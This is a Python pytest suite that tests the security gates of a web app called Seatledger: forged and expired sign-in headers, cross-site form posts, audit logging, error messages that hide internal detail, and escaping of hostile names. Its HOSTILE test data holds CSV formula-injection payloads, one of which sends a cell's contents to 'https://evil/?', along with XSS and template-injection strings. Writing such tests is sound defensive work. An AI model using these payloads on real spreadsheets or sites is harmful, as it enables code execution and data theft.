"""The locks on every route there is: whose request, from which page, and what an error or a name may show.

Promises S1, S2, S3, S9, S10 and S12. A route that is added is in here by itself: the tests walk the permission table.
"""

from __future__ import annotations

import csv
import io
import logging
from dataclasses import replace
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any

import httpx
import pytest

from tests.unit.web import nights
from tests.unit.web.conftest import Open
from tests.unit.web.everything import LOOKS, POSTS, fill, make_everything
from tests.unit.web.fakes import (
    NOW,
    OBJECT_ID,
    SIGN_IN,
    World,
    announce,
    fetch_test_keys,
    make_claims,
    sign,
    sign_in_headers,
)
from tests.unit.web.pages import to_words
from tests.unit.web.watching import read_configuration
from web.application import create_application
from web.context import WebContext
from web.security.permissions import PERMISSIONS, ROLE_PERMISSIONS, Permission
from web.security.scripts import is_for_scripts
from web.security.sign_in import Role
from web.wording import clean

TOKEN, PRINCIPAL, ID = "X-MS-TOKEN-AAD-ID-TOKEN", "X-MS-CLIENT-PRINCIPAL", "X-MS-CLIENT-PRINCIPAL-ID"
OURS = {"Sec-Fetch-Site": "same-origin"}
FORM = {"name": "x", "reason": "x", "do": "safe", "role": "reader", "days": "30", "tenant": "x", "token": "x"}
LOCKED = sorted(key for key, permission in PERMISSIONS.items() if permission is not Permission.PUBLIC)
PEOPLES = [key for key in LOCKED if not is_for_scripts(key[1])]
FORMS = [template for template in POSTS if not is_for_scripts(template)]
GOOD = sign(make_claims())
# Headers that prove nobody, whatever they say of themselves.
FORGED: dict[str, list[tuple[str, str]]] = {
    "no token": [(PRINCIPAL, announce(roles=["Administrator"])), (ID, OBJECT_ID)],
    "no announcement": [(TOKEN, GOOD)],
    "two tokens": [(TOKEN, GOOD), (TOKEN, GOOD), (PRINCIPAL, announce())],
    "joined tokens": [(TOKEN, f"{GOOD},{GOOD}"), (PRINCIPAL, announce())],
    "joined with a space": [(TOKEN, f"{GOOD}, {GOOD}"), (PRINCIPAL, announce())],
    "two announcements": [(TOKEN, GOOD), (PRINCIPAL, announce()), (PRINCIPAL, announce())],
    "joined announcements": [(TOKEN, GOOD), (PRINCIPAL, f"{announce()},{announce()}")],
    "two ids": [(TOKEN, GOOD), (PRINCIPAL, announce()), (ID, OBJECT_ID), (ID, OBJECT_ID)],
    "joined ids": [(TOKEN, GOOD), (PRINCIPAL, announce()), (ID, f"{OBJECT_ID},{OBJECT_ID}")],
    "somebody else": [(TOKEN, GOOD), (PRINCIPAL, announce(object_id="5ea71ed9-0000-4000-8000-0000000000b2"))],
    "tampered": [(TOKEN, f"{GOOD[:-6]}AAAAAA"), (PRINCIPAL, announce())],
    "tampered claims": [(TOKEN, f"{GOOD.split('.')[0]}.e30.{GOOD.split('.')[2]}"), (PRINCIPAL, announce())],
    "another tenant": [(TOKEN, sign(make_claims(tid="other"))), (PRINCIPAL, announce())],
    "another audience": [(TOKEN, sign(make_claims(aud="other"))), (PRINCIPAL, announce())],
    "another issuer": [(TOKEN, sign(make_claims(iss="https://evil.example/v2.0"))), (PRINCIPAL, announce())],
    "not yet": [(TOKEN, sign(make_claims(nbf=NOW + timedelta(hours=1)))), (PRINCIPAL, announce())],
}
EXPIRED = sign_in_headers(exp=NOW - timedelta(hours=3))


async def send(client: httpx.AsyncClient, method: str, template: str, headers: Any, **more: str) -> httpx.Response:
    """A request as somebody would send it who knows the address and the fields."""
    pairs = [*(headers.items() if isinstance(headers, dict) else headers), *more.items()]
    data = FORM if method == "POST" else None
    return await client.request(method, fill(template), headers=pairs, data=data)


def assert_nothing_happened(world: World, before: dict[str, object]) -> None:
    assert read_configuration(world) == before
    assert not world.requests.asked
    assert len(world.audit.entries) == 1, "the one that was there"


@pytest.mark.parametrize("how", FORGED)
async def test_forged_headers_open_no_route(how: str, browse: Open) -> None:
    world = make_everything()
    before = read_configuration(world)
    async with browse(world) as client:
        for method, template in PEOPLES:
            answer = await send(client, method, template, [*FORGED[how], *OURS.items()])
            assert answer.status_code == 401, (method, template)
            assert "Sign-in refused" in answer.text
    assert_nothing_happened(world, before)


async def test_an_expired_sign_in_opens_no_route(browse: Open) -> None:
    world = make_everything()
    before = read_configuration(world)
    async with browse(world) as client:
        for method, template in PEOPLES:
            answer = await send(client, method, template, EXPIRED, **OURS)
            assert answer.status_code == (302 if method == "GET" else 401), (method, template)
            piece = await send(client, method, template, EXPIRED, **OURS, **{"HX-Request": "true"})
            assert piece.status_code == 401, (method, template)
            if method == "GET":
                assert answer.headers["location"].startswith("/.auth/login/aad?post_login_redirect_uri=/")
            else:
                assert "Nothing was changed" in answer.text
    assert_nothing_happened(world, before)


@pytest.mark.parametrize("role", [*Role, None])
async def test_who_may_not_changes_nothing_with_all_its_fields(role: Role | None, browse: Open) -> None:
    world = make_everything()
    before = read_configuration(world)
    allowed = ROLE_PERMISSIONS[role] if role else frozenset()
    async with browse(world) as client:
        for template in FORMS:
            if PERMISSIONS["POST", template] not in allowed:
                answer = await send(client, "POST", template, sign_in_headers([role] if role else []), **OURS)
                assert answer.status_code == 403 and "no role that allows this" in answer.text, template
    assert_nothing_happened(world, before)


@pytest.mark.parametrize(
    "origin",
    [
        {},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Sec-Fetch-Site": "none"},
        {"Origin": "https://evil.example"},
        {"Sec-Fetch-Site": "cross-site", "Origin": "https://seatledger.example"},
        {"X-Seatledger-Token": "sl_1"},
    ],
    ids=str,
)
async def test_a_form_of_another_page_changes_nothing(
    origin: dict[str, str], browse: Open, caplog: pytest.LogCaptureFixture
) -> None:
    world = make_everything()
    before = read_configuration(world)
    async with browse(world) as client:
        for template in FORMS:
            answer = await send(client, "POST", template, sign_in_headers(), **origin)
            assert answer.status_code == 403 and "did not come from a page of Seatledger" in answer.text, template
    assert_nothing_happened(world, before)
    denied = [each.getMessage() for each in caplog.records if each.getMessage().startswith("Denied request")]
    assert len(denied) == len(FORMS)


@pytest.mark.parametrize("key", PEOPLES, ids=" ".join)
async def test_a_look_changes_nothing(key: tuple[str, str], browse: Open) -> None:
    """No GET changes anything, with everything that a consent or a form might bring in its address."""
    method, template = key
    if method != "GET":
        return
    world = make_everything()
    before = read_configuration(world)
    async with browse(world) as client:
        carried = FORM | {"code": "c", "state": "s"}
        answer = await client.get(fill(template), params=carried, headers=sign_in_headers())
    assert answer.status_code < 500
    assert_nothing_happened(world, before)


# Who did what, and from where (S12)


async def test_every_write_is_logged_with_who_what_and_from_where(
    browse: Open, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, "web.security.gate")
    address = {"X-Forwarded-For": "198.51.100.7, 203.0.113.9\t"}
    async with browse(make_everything()) as client:
        for role, verdict in ((Role.READER, "Denied"), (Role.ADMINISTRATOR, "Allowed")):
            for template in FORMS:
                caplog.clear()
                answer = await send(client, "POST", template, sign_in_headers([role]) | address, **OURS)
                correlation_id = answer.headers["x-correlation-id"]
                expected = (
                    f"{verdict} request {correlation_id}: POST '{fill(template)}' by {SIGN_IN.tenant_id}/{OBJECT_ID} "
                    "from 203.0.113.9"
                )
                assert expected in [each.getMessage() for each in caplog.records]


async def test_a_refused_sign_in_is_logged_with_what_and_from_where(
    browse: Open, caplog: pytest.LogCaptureFixture
) -> None:
    async with browse(World()) as client:
        await client.get("/customers", headers=[*FORGED["tampered"], ("X-Forwarded-For", "1.2.3.4\r\n fake")])
    (record,) = [each for each in caplog.records if each.name == "web.security.gate"]
    assert record.levelno == logging.WARNING
    assert "GET '/customers' from 1.2.3.4 fake:" in record.getMessage()
    assert "\n" not in record.getMessage() and GOOD[:-6] not in record.getMessage()


@pytest.mark.parametrize("method", ["GET", "POST"])
async def test_nobody_writes_the_log_full(method: str, browse: Open, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO)
    path = "/customers/%0D%0A%1B%E2%80%AE" + "x" * 20_000
    async with browse(World()) as client:
        for headers in ({}, {"Origin": "https://" + "y" * 20_000}, FORGED["tampered"]):
            answer = await client.request(method, path, headers=headers)
            assert answer.status_code in (302, 401, 403)
    said = [each.getMessage() for each in caplog.records if each.name.startswith("web.")]
    assert len(said) == 3 and all("'/customers/ " in each and len(each) < 700 for each in said)
    assert not any(ord(letter) < 32 for each in said for letter in each)


# What goes wrong is told plainly (S10)


class Kaboom(Exception):
    """Something that nobody expected, with a detail that nobody may see."""


DETAIL = "kaboom-detail at /srv/app/secret.py"


def make_broken() -> WebContext:
    """Everything behind the pages fails in a way that nobody thought of."""

    async def fail() -> Any:
        raise Kaboom(DETAIL)

    return replace(
        World().context(),
        outside=fail,
        administration=fail,
        run_requests=fail,
        check_health=fail,
        fetch_sign_in_keys=fetch_test_keys,
    )


@pytest.mark.parametrize("accept", ["text/html", "application/json"])
async def test_an_error_is_a_sentence_with_a_correlation_id_on_every_route(
    accept: str, browse: Open, caplog: pytest.LogCaptureFixture
) -> None:
    without_storage = []
    async with browse(create_application(make_broken())) as client:
        for method, template in PEOPLES:
            answer = await send(client, method, template, sign_in_headers(), Accept=accept, **OURS)
            text = answer.text
            assert DETAIL not in text and "Kaboom" not in text and "Traceback" not in text, (method, template)
            assert len(answer.headers["x-correlation-id"]) == 12
            if answer.status_code < 500:
                without_storage.append((method, template))
                continue
            assert answer.headers["x-correlation-id"] in text, (method, template)
            assert "." in (answer.json()["detail"] if accept == "application/json" else text)
    assert "Traceback" in caplog.text, "the log has it"
    assert set(without_storage) <= NEEDS_NOTHING


NEEDS_NOTHING = {
    ("GET", "/approvals/also"),
    ("GET", "/approvals/count"),
    ("GET", "/customers/add/exclude"),
    # What asks for nothing yet, and files that no form sent.
    ("GET", "/search"),
    ("GET", "/tools/end"),
    ("GET", "/tools/end.csv"),
    ("POST", "/tools/import"),
    ("POST", "/tools/import/apply"),
    ("GET", "/settings/connections/connectwise/new"),
    ("GET", "/settings/connections/autotask/new"),
    ("GET", "/settings/connections/microsoft/new"),
    ("GET", "/settings/connections/microsoft/direct/new"),
    ("GET", "/settings/tokens"),
    ("POST", "/settings/tokens"),
    ("POST", "/settings/tokens/revoke"),
}


# Names that others chose (S9)

HOSTILE = {
    **{f"hostile {number}": name for number, name in enumerate(nights.HOSTILE_NAMES)},
    "formula": "=cmd|'/c calc'!A0",
    "plus": "+1+1",
    "at": "@SUM(1)",
    "list separators": 'Bob;=HYPERLINK("https://evil/?"&A1;"open")|+1;; "@a',
    "nul": "a\x00b",
    "300": "<b>" * 100,
    "marks": "\u200f\u202e=1\u2066\u200d🧑‍🤝‍🧑",
    "handler": "' onmouseover='alert(1)",
    "address": "javascript:alert(1)//",
    "template": "{{ 7*7 }}${7*7}<%= 7*7 %>",
}


class Markup(HTMLParser):
    """What a browser would make of a page, as far as it could act."""

    def __init__(self) -> None:
        super().__init__()
        self.trouble: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        if tag in ("iframe", "object", "embed", "b") or (tag == "script" and not named.get("src", "")):
            self.trouble.append(f"<{tag} {named}>")
        for name, value in attrs:
            address = (value or "").strip().lower()
            if name.startswith("on") or (name in ("href", "src", "action") and address.startswith("javascript:")):
                self.trouble.append(f"<{tag} {name}={value}>")
            if name in ("src", "href") and tag in ("script", "link", "img") and not address.startswith("/static/"):
                self.trouble.append(f"<{tag} {name}={value}>")


@pytest.mark.parametrize("how", HOSTILE)
async def test_hostile_names_are_text_on_every_page_and_in_every_file(how: str, browse: Open) -> None:
    name = HOSTILE[how]
    shown = set()
    async with browse(make_everything(name)) as client:
        for template in LOOKS:
            answer = await client.get(fill(template), headers=sign_in_headers())
            assert answer.status_code < 500, (template, answer.text)
            assert "\x00" not in answer.text, template
            if answer.headers.get("content-type", "").startswith("text/html"):
                markup = Markup()
                markup.feed(answer.text)
                assert markup.trouble == [], template
                assert template not in SHOW_IT or clean(name) in to_words(answer.text), template
            elif answer.headers.get("content-type", "").startswith("text/csv"):
                check_cells(answer.content.decode("utf-8-sig"), template)
            if answer.status_code == 200:
                shown.add(template)
    assert shown >= set(LOOKS) - MAY_BE_MISSING


SHOW_IT = {"/customers", "/customers/{customer_id}", "/profiles", "/settings/connections", "/settings/changes"}
MAY_BE_MISSING = {
    "/tools/rules/{rule_id}/review",
    "/approvals/{hold_id}",
    "/settings/connections/microsoft/callback",
    "/customers/{customer_id}/licences/{mapping_id}/adopt",
    "/customers/{customer_id}/additions/{connection_id}/{addition_id}",
    "/customers/{customer_id}/additions/{connection_id}/{addition_id}/undo",
    "/settings/connections/{connection_id}/look",
    "/settings/connections/{connection_id}/health",
}


def check_cells(text: str, template: str) -> None:
    """No cell that a spreadsheet would calculate, whatever parts its cells, and none that breaks its row."""
    for separator in ";|\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert not any(cell.lstrip(' "').startswith(("=", "+", "-", "@")) for cell in row[1:]), (template, row)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len({len(row) for row in rows}) == 1, template
    for row in rows:
        for cell in row:
            is_number = cell.removeprefix("-").replace(".", "", 1).isdigit()
            assert is_number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (template, cell)
            assert not any(ord(each) < 32 for each in cell), (template, cell)
